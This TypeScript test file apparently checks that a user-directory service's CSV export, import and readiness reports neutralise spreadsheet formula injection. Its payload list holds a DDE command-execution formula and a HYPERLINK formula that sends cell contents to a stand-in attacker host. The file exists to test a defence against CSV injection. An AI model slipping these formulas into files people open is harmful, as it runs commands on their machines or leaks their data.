/**
 * The attacker gives himself a name or an address that a spreadsheet computes (`=cmd|' /C calc'!A0`), and waits for an
 * operator to export the users and open the file: the formula then runs on the operator's machine, or sends the other cells
 * away (OWASP, CSV Injection).
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { dynamodbDirectory } from '../../functions/adapters/dynamodb/directory.ts';
import { openTable } from '../../functions/adapters/dynamodb/table.ts';
import { runCli } from '../cli/run-cli.ts';
import { ADMIN, type OtpClient, startClient } from '../http/client.ts';
import { PRESET } from '../http/put-user.ts';
import { DOMAINS } from '../http/token-client.ts';

const FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?"&A1)', '+1+1', '-2+3', '@SUM(1)', "'=1+1"];
const folder = mkdtempSync(join(tmpdir(), 'sekisho-formulas-'));
let client: OtpClient;
beforeAll(async () => {
  client = await startClient();
  for (const name of ['Formulas', 'Copied']) {
    expect((await client.call('POST', DOMAINS, { as: ADMIN, body: { name } })).status).toBe(200);
  }
});
afterAll(async () => {
  await client.service.close();
  rmSync(folder, { recursive: true, force: true });
});

const cli = (words: readonly string[], domain: string) =>
  runCli(['users', ...words, '--local', '--domain', domain], { port: new URL(client.service.url).port });
const usersOf = (domain: string) =>
  dynamodbDirectory(openTable('sekisho'), PRESET).list(domain, { after: undefined, limit: 100 });

it('no cell of an export begins as a formula does, and an import reads what was there', async () => {
  for (const [at, note] of FORMULAS.entries()) {
    const attributes = { note, mail: '=1+1@example.com', mobile: '+819012345678' };
    const path = `/mfa/v1/users/${encodeURIComponent(`=${at}+1`)}?domain=Formulas`;
    expect((await client.call('PUT', path, { as: ADMIN, body: { attributes } })).status).toBe(200);
  }
  const file = join(folder, 'users.csv');
  expect((await cli(['export', file], 'Formulas')).exitCode).toBe(0);
  const text = readFileSync(file, 'utf8');
  expect(text.split('\r\n')).toHaveLength(FORMULAS.length + 2);
  expect(text).not.toMatch(/(^\uFEFF?|[\r\n,])"?[=+\-@\t]/);
  expect((await cli(['import', file], 'Copied')).exitCode).toBe(0);
  expect((await usersOf('Copied')).users).toEqual((await usersOf('Formulas')).users);
});

it('no cell of the file of who would be locked out begins as a formula does, and none holds an address or a note', async () => {
  const file = join(folder, 'readiness.csv');
  const words = ['readiness', '--users', file, '--local', '--domain', 'Formulas'];
  expect((await runCli(words, { port: new URL(client.service.url).port })).exitCode).toBe(3);
  const text = readFileSync(file, 'utf8');
  expect(text.split('\r\n')).toHaveLength(FORMULAS.length + 2);
  expect(text).not.toMatch(/(^\uFEFF?|[\r\n,])"?[=+\-@\t]/);
  expect(text).not.toMatch(/example\.com|9012345678|evil|calc/);
});
